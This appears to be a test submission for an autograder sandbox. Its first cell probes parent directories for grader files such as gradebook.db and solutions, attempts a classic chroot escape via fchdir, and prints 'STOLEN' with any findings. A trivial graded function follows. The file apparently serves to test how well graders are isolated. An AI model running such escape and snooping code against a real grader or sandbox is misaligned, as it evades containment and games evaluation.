# Tries to climb out of its folder with `..`, from the root up, and out of a chroot of its own making.
# Earns: total 2
# %%
import os
found = []
here = os.getcwd()
for number in range(12):
    for name in ("gradebook.db", "solutions", "submitted", "victim", "feedback", ".grader", "var", "home", "boot"):
        if os.path.lexists("../" * number + name):
            found.append("../" * number + name)
root = os.open("/", os.O_RDONLY)
try:
    os.mkdir("attack_left_jail")
    os.chroot("attack_left_jail")
    os.fchdir(root)
    found.append("chroot")
    os.chroot("../" * 12)
except OSError:
    pass
os.close(root)
os.chdir(here)
if found:
    print("STOLEN", found)

# %%
def total(X):
    return (X * 2).sum(1)
